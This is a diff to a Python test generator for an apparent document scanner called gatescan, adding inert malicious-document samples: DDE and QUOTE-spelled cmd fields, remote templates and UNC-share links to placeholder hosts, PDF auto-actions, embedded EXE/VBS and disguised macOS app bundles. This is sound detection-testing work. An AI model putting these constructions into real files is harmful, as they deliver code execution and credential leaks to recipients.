@@ -10,6 +10,7 @@ from __future__ import annotations
 import base64
 import html
 import struct
+import zlib
 from collections.abc import Iterator
 
 from gatescan.model import Verdict
@@ -55,7 +56,7 @@ def cases() -> Iterator[Case]:
             POLICY,
             (_projects, _flat, _fields, _clicks, _sheets, _rich, _open, _packages, _loading, _addresses, _pages),
         ),
-        ("named", 61, POLICY, (_streams, _unpacked)),
+        ("named", 61, POLICY, (_streams, _unpacked, _bundles, _referred)),
         ("spelled", 65, POLICY, (_spelled,)),
         ("sealed", 54, ENCRYPTED, (_sealed,)),
     ):
@@ -95,7 +96,12 @@ def _wrapped() -> Iterator[_Made]:
     mark = "\ufeff\u0e53ketchUp Model".encode("utf-16-le") + bytes(range(1, 32))
     yield "padded/papers.zip", bytes(600) + pack.zip_bytes([TEXT])
     yield "behind-a-mark/house.skp", mark + pack.zip_bytes([("model.dat", bytes(range(200)))])
+    marks = b"7z\xbc\xaf\x27\x1c Rar!\x1a\x07\x01 Rar!\x1a\x07\x00 MSCF\x00\x00\x00\x00 "
+    yield "marks/photo.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) + marks + bytes(range(256)) * 3
+    yield "marks/store.db", bytes(range(256)) + pack.rar5_bytes([TEXT]) + bytes(range(256))
     wide = "\u4f01" * 150 + ".pdf"
+    folders = ("www.example.com/index.txt", "site.app/readme.txt", "a.com/Contents.txt", "Contents/a.app.txt")
+    yield "folders/papers.zip", pack.zip_bytes([(folder, TEXT[1]) for folder in folders])
     yield "long-name/papers.zip", pack.zip_bytes([(wide, b"%PDF-1.4\n"), (f"{wide}/{wide}", b"%PDF-1.4\n")])
 
 
@@ -189,6 +195,8 @@ def _elsewhere() -> Iterator[_Made]:
         )
     ):
         yield f"template-{number}/letter.docx", doc.ooxml_bytes(relations=[("attachedTemplate", target)])
+    for number, target in enumerate(("https://www.example.com/a.png", r"\\FILESERVER\logos\a.png", "file:///C:/a.png")):
+        yield f"image-{number}/letter.docx", doc.ooxml_bytes(relations=[("image", target)])
     for number, target in enumerate(
         ("www.example.com", "example.com", "ann.lee@example.com", "shop.example.com?a=1", "skype:ann@example.com?call")
     ):
@@ -300,7 +308,11 @@ def _fields() -> Iterator[_Made]:
     field = f"\ufeff<w:document>{doc.word_field('DDEAUTO cmd')}</w:document>"
     for coding in ("utf-8", "utf-16-le"):
         yield f"other-name-{coding}/letter.docx", doc.ooxml_bytes([("word/main.dat", field.encode(coding))])
-    for what, text in (("auto", b"\x13 DDEAUTO cmd x\x14\x15"), ("wide", "\x13DDE cmd x\x15".encode("utf-16-le"))):
+    for what, text in (
+        ("auto", b"\x13 DDEAUTO cmd x\x14\x15"),
+        ("wide", "\x13DDE cmd x\x15".encode("utf-16-le")),
+        ("quoted", b"\x13\x13QUOTE 68 68 69\x15 cmd\x15"),
+    ):
         yield f"{what}/letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + text})
     for what, instruction in {
         "auto": rb"DDEAUTO c:\\cmd x",
@@ -354,6 +366,9 @@ def _loading() -> Iterator[_Made]:
     }.items():
         for name, data in _fields_in(code):
             yield f"{what}/{name}", data
+    for kind in ("image", "video"):
+        link = [(kind, r"\\192.0.2.9\s\logo.png")]
+        yield f"{kind}-share/letter.docx", doc.ooxml_bytes(relations=link)
     quoted = doc.FIELD_BEGIN + doc.word_field('QUOTE "INCLUDETEXT"') + doc.instruction(' "http://x.example/a.docx"')
     yield (
         "quote/letter.docx",
@@ -388,9 +403,23 @@ def _everyday_fields() -> Iterator[_Made]:
     ):
         yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
         yield f"address-{number}/paper.pdf", _with_address(target)
+        yield from _linked(f"address-{number}", target)
+    actions = b"/AA << /O << /S /JavaScript >> >> /A << /S /GoToR /F (//192.168.1.5/plans/a.pdf) >> "
+    actions += b"/OpenAction << /S /GoToR /F (other.pdf) >>"
+    yield "actions/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog " + actions)
     yield "address-web/paper.pdf", _with_address("www.example.com/setup.exe")
     formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
+    formula += '<c><f>A1&amp;"|\'"&amp;B1</f></c><c><f>HYPERLINK(IF(A1="x","https://example.com","#a"),"a.exe")</f></c><c>cmd|\'x\'!a</c>'
     yield "formula/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula.encode())], folder="xl")
+    sources = (
+        '<w:AttachedTemplate HRef="file:///C:\\Templates\\a.dotm"><x:WorksheetSource HRef="list-Dateien/sheet001.htm"/>'
+        '<w:AttachedTemplate HRef="\\\\FILESERVER\\a.dotm"><a href="https://x.example/a.exe">:AttachedTemplate</a>'
+    )
+    yield "sources/letter.doc", f"<html><!--[if gte mso 9]><xml>{sources}</xml><![endif]--></html>".encode()
+    page = (
+        b"<PageContents><Cell N='Address' V='https://x.example/a.exe'/><Cell N='Address' V='plan.vsdx'/></PageContents>"
+    )
+    yield "sources/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
     rows = "".join(
         f"<tr><td>=SUM(A{n}:B{n})</td><td>-{n}|{n}</td><td>= a | b</td><td>+49 30 {n}</td></tr>" for n in range(9)
     )
@@ -438,6 +467,11 @@ def _addresses() -> Iterator[_Made]:
     ):
         yield f"{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target.replace("&", "&amp;"))])
         yield f"{number}/paper.pdf", _with_address(target)
+        yield from _linked(str(number), target)
+    quote = 'HYPERLINK "file:///C:/\x13 QUOTE 97 46 101 120 101\x15"'
+    for coding in ("cp1252", "utf-16-le"):
+        stream = doc.word_stream() + f"\x13{quote}\x14x\x15".encode(coding)
+        yield f"quote-{coding}/letter.doc", doc.ole_bytes({"WordDocument": stream})
     for number, target in enumerate(
         (
             *("mshta http://x.example/a", "mshta%20javascript:close()", r"mshta \\192.0.2.9\s\a"),
@@ -447,7 +481,35 @@ def _addresses() -> Iterator[_Made]:
         )
     ):
         yield f"words-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
+    for what, old, new in (
+        (
+            "referred",
+            b"/Catalog",
+            b"/Catalog /A << /URI 90 0 R >> >> endobj 90 0 obj (file:///C:/a.exe) endobj 91 0 obj <<",
+        ),
+        ("part", b"/Catalog", b"/Catalog /A << /S /GoToE /F (\\\\\\\\192.0.2.9\\\\s\\\\a) >>"),
+        ("opened", b"/Catalog", b"/Catalog /AA << /O << /S /GoToR /F (//192.0.2.9/s/a.pdf) >> >>"),
+    ):
+        yield f"{what}/paper.pdf", doc.pdf_bytes().replace(old, new)
     yield "locked/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog /A << /U#52I <7365617263682D6D733A78> >>")
+
+
+def _linked(what: str, target: str) -> Iterator[_Made]:
+    """A link in fields of Word, in a workbook and a presentation of old."""
+    written = target.replace("\\", "\\\\")
+    for name, data in _fields_in(f'HYPERLINK "{written}" \\o "open"'):
+        yield f"{what}-field/{name}", data
+    wide = (target + "\0").encode("utf-16-le")
+    plain = target.encode() + b"\0"
+    for kind, moniker in (
+        ("address", bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<L", len(wide)) + wide),
+        ("file", bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HL", 0, len(plain)) + plain),
+    ):
+        link = bytes(8) + bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<LL", 2, 3) + moniker
+        book = doc.xls_workbook() + doc.xls_workbook() + struct.pack("<HH", 0x1B8, len(link)) + link
+        yield f"{what}-{kind}/list.xls", doc.ole_bytes({"Workbook": book})
+    slide = struct.pack("<HHL", 0x10, 0xFBA, len(wide) - 2) + wide[:-2]
+    yield f"{what}/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + slide})
 
 
 def _pages() -> Iterator[_Made]:
@@ -465,6 +527,7 @@ def _pages() -> Iterator[_Made]:
         "dde-spelled": "<td>=cmd&#124;'/c calc'!A0</td>",
         "dde-formula": "<td x:fmla=\"=cmd|'/c calc'!A0\">1</td>",
         "link": f"<td>{link}</td>",
+        "href": '<td><a href="file:///C:/Windows/System32/calc.exe">1</a></td>',
     }.items():
         yield f"{what}/list.xls", _sheet_page(f"<tr>{cell}</tr>")
         yield f"{what}/bare.xls", f"<table><tr>{cell}</tr></table>".encode()
@@ -474,10 +537,31 @@ def _pages() -> Iterator[_Made]:
         " c:\\windows\\system32\\cmd.exe<span style='mso-element:field-separator'></span><![endif]-->x"
         "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
     )
+    for what, element in (
+        ("template", '<w:AttachedTemplate HRef="http://x.example/a.dotm">'),
+        ("template-share", "<w:AttachedTemplate HRef='\\\\192.0.2.9\\s\\a.dotm'>"),
+        ("sheet", '<x:WorksheetSource HRef="https://x.example/sheet001.htm"/>'),
+    ):
+        yield f"{what}/letter.doc", f"<html><!--[if gte mso 9]><xml>{element}</xml><![endif]--></html>".encode()
+    yield "link/letter.xml", doc.word_2003('<w:hlink w:dest="file:///C:/a.exe"><w:r/></w:hlink>')
+    space = "http://schemas.microsoft.com/visio/2003/core"
+    drawing = (
+        f'<VisioDocument xmlns="{space}"><Hyperlink><Address>search-ms:query=x</Address></Hyperlink></VisioDocument>'
+    )
+    yield "link/plan.vdx", b'<?xml version="1.0"?>' + drawing.encode()
+    page = b"<PageContents><Row><Cell N='Address' V='file:///C:/a.exe'/></Row></PageContents>"
+    yield "link/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
     yield "field/letter.doc", f"<html><body><p>{field}</p></body></html>".encode()
     for coding in ("utf-8", "utf-16"):
         formula = '<worksheet><c><f>HYPERLINK("\\\\192.0.2.9\\s\\a.exe","x")</f></c></worksheet>'.encode(coding)
         yield f"formula-{coding}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula)], folder="xl")
+    for what, text in {
+        "joined": 'HYPERLINK(CONCATENATE("file:///C:/","a"&amp;".exe"),"x")',
+        "dde": "cmd|'/c calc'!A0",
+        "dde-spelled": "1+cmd|&apos;/c calc&apos;!A0",
+    }.items():
+        sheet = f"<worksheet><c><f>{text}</f></c></worksheet>".encode()
+        yield f"formula-{what}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", sheet)], folder="xl")
     yield "formula/list.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EHYPERLINK("file:///C:/a.exe")\r\nE\r\n'
 
 
@@ -545,6 +629,11 @@ def _rich() -> Iterator[_Made]:
         "share": "\\'5c\\'5c192.0.2.1\\'5cs",
     }.items():
         yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
+    for what, front in (("mark", b"\xef\xbb\xbf"), ("blanks", b"\r\n \n")):
+        package = doc.rtf_bytes([doc.ole1_object("Package", doc.ole_package("run.exe", EXE)[4:])])
+        yield f"behind-{what}/letter.rtf", front + package
+    shape = "{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlloc }{\\hlsrc file:///C:/a.exe}{\\hlfr x}}}}}}"
+    yield "shape/letter.rtf", doc.rtf_bytes(before=shape)
     yield "run/letter.rtf", doc.rtf_bytes(before="{\\*\\template \\bin3 }}}http://x.example/t.dotm}")
     long = "{\\*\\template ht\\bin30000 " + "}" * 30_000 + "tp://x.example/t.dotm}"
     yield "long-run/letter.rtf", doc.rtf_bytes(before=long)
@@ -661,6 +750,55 @@ def _unpacked() -> Iterator[_Made]:
         yield f"office/{name}", doc.ooxml_bytes(pieces)
         yield f"open/{name}", doc.odf_bytes(extra=pieces)
     yield "inside/letter.docx", doc.ooxml_bytes([("word/embeddings/a.zip", pack.zip_bytes([("run.vbs", SCRIPT)]))])
+
+
+def _bundles() -> Iterator[_Made]:
+    """Folders that macOS starts as one file."""
+    for name in (
+        "Invoice.app/Contents/MacOS/run",
+        "Invoice.workflow/Contents/document.wflow",
+        "x/A.App/contents/macos/a",
+    ):
+        for file, made in (("papers.zip", pack.zip_bytes), ("papers.tar", pack.tar_bytes)):
+            yield f"{name.rpartition('/')[2]}/{file}", made([(name, b"#!/bin/sh\necho hello\n"), TEXT])
+
+
+def _referred() -> Iterator[_Made]:
+    """PDF whose embedded file is named or packed by what other objects say, or with what is not undone here; and PDF in
+    other things."""
+    file, program = doc.pdf_bytes([("run.vbs", SCRIPT)]), doc.pdf_bytes([("notes.dat", EXE)])
+    rows = doc.pdf_bytes([("notes.dat", b"".join(b"\0" + EXE[at : at + 1] for at in range(len(EXE))))])
+    for what, source, old, new in (
+        ("name", file, b"(run.vbs)", b"90 0 R"),
+        ("filter", program, b"/FlateDecode", b"91 0 R"),
+        ("filters", program, b"/FlateDecode", b"[91 0 R]"),
+        ("no-filter", program, b"/FlateDecode", b"99 0 R"),
+        ("predictor", rows, b"/FlateDecode", b"/FlateDecode /DecodeParms << /Predictor 12 >>"),
+    ):
+        for packed, objects in (
+            ("", b"90 0 obj (run.vbs) endobj 91 0 obj /FlateDecode endobj "),
+            ("-packed", _object_stream({90: b"(run.vbs)", 91: b"/FlateDecode"})),
+        ):
+            data = source.replace(old, new).replace(b"trailer", objects + b"trailer", 1)
+            yield f"{what}{packed}/paper.pdf", data
+    yield "behind-picture/paper.pdf", b"GIF89a" + bytes(30) + file
+    yield "as-postscript/paper.pdf", b"%!PS-Adobe-3.0 PDF-1.4\n" + file[9:]
+    chunk = f"<document><chunk>{doc.base64_text(file)}</chunk></document>"
+    yield (
+        "form/paper.xdp",
+        f'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf>{chunk}</pdf></xdp:xdp>'.encode(),
+    )
+
+
+def _object_stream(objects: dict[int, bytes]) -> bytes:
+    """An object stream of a PDF."""
+    numbers, body = "", b""
+    for number, written in objects.items():
+        numbers += f"{number} {len(body)} "
+        body += written + b" "
+    packed = zlib.compress(numbers.encode() + body)
+    head = f"80 0 obj << /Type /ObjStm /N {len(objects)} /First {len(numbers)} /Filter /FlateDecode >> stream\n"
+    return head.encode() + packed + b"\nendstream endobj "
 
 
 def _spelled() -> Iterator[_Made]:
